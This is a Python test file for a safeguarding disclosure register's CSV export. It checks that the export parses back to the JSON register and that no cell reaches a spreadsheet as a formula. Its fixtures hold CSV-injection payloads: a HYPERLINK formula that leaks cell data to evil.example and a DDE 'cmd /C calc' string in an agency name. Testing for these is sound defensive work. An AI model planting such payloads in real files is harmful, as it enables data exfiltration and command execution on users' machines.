"""The register as a CSV file: it parses back to the JSON register, and no cell is a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from typing import Any
from uuid import UUID

import pytest

from events.dispute import DisputePackDisclosed
from events.sharing import InformationDisclosed
from events.storage import logged_events
from projections.register_export import CSV_COLUMNS, instant, neutralise, read_csv
from projections.register_rows import RegisterEntry, RegisterQuery, RegisterRow, register_rows
from tests.api_client import Api
from tests.sharing_support import (
    AGENCY_TYPES,
    CHILDRENS,
    POLICE,
    SCHOOL,
    at_meeting,
    disclosure,
    register_agencies,
)
from tests.support import FixedClock

# What an attacker, or an unlucky clerk, might type where a spreadsheet looks for formulas.
HOSTILE_ADVICE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the case")',
    "+44 1603 000000 before storing",
    "-restricted- keep locked",
    "@SUM(A1:A9)",
    "'already quoted",
    "''twice quoted",
    'Store in the "locked", fire-proof cabinet;\nsecond line; comma, quote " and tab\tinside',
    "Café ☕ — keep in the secure room",
)
HOSTILE_AGENCY = '=cmd|" /C calc"!A0 Academy'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def register(api: Api, clock: FixedClock) -> dict[str, Any]:
    """The police register after one meeting-disclosure per hostile piece of advice."""
    agencies = register_agencies(api)
    created = api.client.post(
        "/agencies",
        json={"name": HOSTILE_AGENCY, "agency_type": "education"},
        headers=api.headers("triage-1"),
    )
    assert created.status_code == 201, created.text
    hostile = UUID(created.json()["agency_id"])
    referral_id = at_meeting(api, clock, agencies)
    api.ok(referral_id, "strategy-meeting/invitations", {"agency_id": str(hostile)}, by="chair-1")
    for number, advice in enumerate(HOSTILE_ADVICE):
        recipients = [agencies[SCHOOL], hostile] if number % 2 else [agencies[CHILDRENS]]
        body = disclosure(
            agencies[POLICE], recipients, context="strategy_meeting", handling_advice=advice
        )
        api.ok(referral_id, "disclosures", body, by="police-1")
    received = disclosure(agencies[CHILDRENS], [agencies[POLICE]], context="strategy_meeting")
    position = api.ok(referral_id, "disclosures", received, by="cs-1")["position"]
    return {"police": agencies[POLICE], "hostile": hostile, "position": position}


def export(api: Api, agency_id: UUID, output: str, **params: Any) -> Any:
    response = api.client.get(
        f"/agencies/{agency_id}/disclosure-register",
        params={"format": output, **params},
        headers=api.headers("hos-1"),
    )
    assert response.status_code == 200, response.text
    return response


def as_csv_cells(row: dict[str, Any]) -> dict[str, str]:
    """A JSON register row written the way the CSV columns are documented in docs/api.md."""
    bases = row["legal_bases"]
    yes_no = {True: "yes", False: "no"}
    return {
        "direction": row["direction"],
        "reference": row["reference"],
        "referral_id": row["referral_id"],
        "disclosure_no": str(row["disclosure_no"]),
        "context": row["context"],
        "disclosing_agency": row["disclosing_agency"]["name"],
        "disclosing_agency_type": row["disclosing_agency"]["agency_type"],
        "disclosing_agency_id": row["disclosing_agency"]["agency_id"],
        "recipient_agency": row["recipient_agency"]["name"],
        "recipient_agency_type": row["recipient_agency"]["agency_type"],
        "recipient_agency_id": row["recipient_agency"]["agency_id"],
        "information_category": row["information_category"],
        "special_category": yes_no[row["special_category"]],
        "legal_basis_ids": "; ".join(b["entry_id"] for b in bases),
        "legal_basis_citations": "; ".join(b["citation"] for b in bases),
        "legal_basis_catalogues": "; ".join(
            f"{b['catalogue']} {b['catalogue_version']}" for b in bases
        ),
        "relies_on_consent": yes_no[row["relies_on_consent"]],
        "consent_status": row["consent_status"],
        "particularly_sensitive": yes_no[row["particularly_sensitive"]],
        "handling_advice": row["handling_advice"],
        "purpose": row["purpose"],
        "decided_by": row["decided_by"],
        "decided_by_role": row["decided_by_role"],
        "decided_by_agency": row["decided_by_agency"],
        "log_position": str(row["position"]),
    }


def without_times(row: dict[str, str]) -> dict[str, str]:
    return {k: v for k, v in row.items() if k not in {"disclosed_at", "recorded_at"}}


def test_the_csv_parses_back_to_the_json_register(api: Api, register: dict[str, Any]) -> None:
    police, position = register["police"], register["position"]
    rows = export(api, police, "json", after_position=position).json()["rows"]
    assert len(rows) == 1 + len(HOSTILE_ADVICE) + len(HOSTILE_ADVICE) // 2
    assert {row["handling_advice"] for row in rows} >= set(HOSTILE_ADVICE)
    assert {row["recipient_agency"]["name"] for row in rows} >= {HOSTILE_AGENCY}

    response = export(api, police, "csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith(
        f'attachment; filename="disclosure-register-{police}-'
    )
    parsed = read_csv(response.content.decode("utf-8"))

    assert len(parsed) == len(rows)
    assert list(parsed[0]) == list(CSV_COLUMNS)
    for got, row in zip(parsed, rows, strict=True):
        assert without_times(got) == as_csv_cells(row)
        assert datetime.fromisoformat(got["disclosed_at"]) == datetime.fromisoformat(
            row["disclosed_at"]
        )
        assert datetime.fromisoformat(got["recorded_at"]) == datetime.fromisoformat(
            row["recorded_at"]
        )


def test_no_cell_reaches_a_spreadsheet_as_a_formula(api: Api, register: dict[str, Any]) -> None:
    raw = export(api, register["police"], "csv", after_position=register["position"]).content
    text = raw.decode("utf-8")
    assert raw.startswith("\ufeff".encode()), "a byte-order mark, so spreadsheets read UTF-8"
    assert text.count("\r\n") >= len(HOSTILE_ADVICE), "CRLF line ends"

    cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]
    assert cells, "the export has cells"
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == []
    assert f"'{HOSTILE_ADVICE[0]}" in cells
    assert f"'{HOSTILE_AGENCY}" in cells
    assert "'''twice quoted" in cells, "an apostrophe already there gains one, so reading is exact"
    assert HOSTILE_ADVICE[-1] in cells, "ordinary text is left alone"


def test_the_hostile_agency_reads_its_own_register_back_exactly(
    api: Api, register: dict[str, Any]
) -> None:
    hostile = register["hostile"]
    rows = export(api, hostile, "json", after_position=register["position"]).json()["rows"]
    parsed = read_csv(export(api, hostile, "csv").content.decode("utf-8"))
    assert [without_times(row) for row in parsed] == [as_csv_cells(row) for row in rows]
    assert {row["direction"] for row in parsed} == {"received"}
    assert {row["recipient_agency"] for row in parsed} == {HOSTILE_AGENCY}
    assert AGENCY_TYPES[POLICE] in {row["disclosing_agency_type"] for row in parsed}


# The exports as this service first wrote them, rendered independently of the code that now
# writes them: each row a validated model, each cell neutralised one by one, each JSON row
# the entry model's own dump. The exports must stay byte for byte what these give.
def oracle_entries(api: Api, agency_id: UUID, **narrowed: Any) -> list[RegisterEntry]:
    recorder = api.client.app.state.runtime.ledger.recorder  # type: ignore[attr-defined]
    query = RegisterQuery(agency_id, **narrowed)
    topics = [InformationDisclosed.TOPIC, DisputePackDisclosed.TOPIC]
    return [
        entry
        for position, event in logged_events(recorder, topics)
        if isinstance(event, InformationDisclosed | DisputePackDisclosed)
        for row in register_rows(position, event)
        if (entry := query.entry(RegisterRow.model_validate_json(row.model_dump_json())))
    ]


def oracle_cells(entry: RegisterEntry) -> list[str]:
    bases = entry.legal_bases
    yes_no = {True: "yes", False: "no"}
    cells: list[Any] = [
        entry.direction,
        instant(entry.disclosed_at),
        instant(entry.recorded_at),
        entry.reference,
        entry.referral_id,
        entry.disclosure_no,
        entry.context.value,
        entry.disclosing_agency.name,
        entry.disclosing_agency.agency_type.value,
        entry.disclosing_agency.agency_id,
        entry.recipient_agency.name,
        entry.recipient_agency.agency_type.value,
        entry.recipient_agency.agency_id,
        entry.information_category,
        yes_no[entry.special_category],
        "; ".join(basis.entry_id for basis in bases),
        "; ".join(basis.citation for basis in bases),
        "; ".join(f"{basis.catalogue} {basis.catalogue_version}" for basis in bases),
        yes_no[entry.relies_on_consent],
        entry.consent_status.value,
        yes_no[entry.particularly_sensitive],
        entry.handling_advice,
        entry.purpose,
        entry.decided_by,
        entry.decided_by_role.value,
        entry.decided_by_agency,
        entry.position,
    ]
    return [neutralise(str(cell)) for cell in cells]


def oracle_csv(entries: list[RegisterEntry], marking: str) -> bytes:
    buffer = io.StringIO()
    buffer.write(f"\ufeff{marking}\r\n")
    writer = csv.writer(buffer)
    writer.writerow(CSV_COLUMNS)
    for entry in entries:
        writer.writerow(oracle_cells(entry))
    return buffer.getvalue().encode()


def oracle_json_rows(entries: list[RegisterEntry]) -> bytes:
    return b",".join(entry.model_dump_json().encode() for entry in entries)


NARROWINGS: tuple[dict[str, date], ...] = (
    {},
    {"period_from": date(2000, 1, 1), "period_to": date(2100, 1, 1)},
)


@pytest.mark.parametrize("narrowed", NARROWINGS)
@pytest.mark.parametrize("as_of", [False, True])
def test_exports_are_byte_for_byte_the_rows_rendered_from_the_log(
    api: Api, register: dict[str, Any], narrowed: dict[str, Any], *, as_of: bool
) -> None:
    position = register["position"]
    params: dict[str, Any] = {"after_position": position}
    params |= {"from": "2000-01-01", "to": "2100-01-01"} if narrowed else {}
    for agency_id in (register["police"], register["hostile"]):
        if as_of:
            params["as_of"] = api.client.app.state.runtime.ledger.clock.now().isoformat()  # type: ignore[attr-defined]
        entries = oracle_entries(api, agency_id, **narrowed)
        assert entries

        as_csv = export(api, agency_id, "csv", **params)
        marking, _, _ = as_csv.content.decode().removeprefix("\ufeff").partition("\r\n")
        assert marking.startswith('"# OFFICIAL-SENSITIVE (formerly RESTRICTED) - produced by hos-1')
        assert as_csv.content == oracle_csv(entries, marking)
        assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"

        as_json = export(api, agency_id, "json", **params)
        header, rows_start, _ = as_json.content.partition(b',"rows":[')
        assert as_json.content == header + rows_start + oracle_json_rows(entries) + b"]}"
        assert as_json.headers["content-type"] == "application/json"
        assert set(json.loads(header + b"}")) == {
            "protective_marking",
            "marking_in_the_guidance",
            "produced_by",
            "produced_by_role",
            "produced_by_agency",
            "produced_at",
            "agency",
            "filters",
            "generated_at",
            "projection",
        }


def test_a_counterpart_narrows_the_export_to_the_rows_with_it(
    api: Api, register: dict[str, Any]
) -> None:
    police, hostile = register["police"], register["hostile"]
    entries = oracle_entries(api, police, counterpart_id=hostile)
    assert entries
    params = {"after_position": register["position"], "counterpart_agency_id": str(hostile)}
    as_json = export(api, police, "json", **params)
    assert as_json.content.partition(b',"rows":[')[2] == oracle_json_rows(entries) + b"]}"
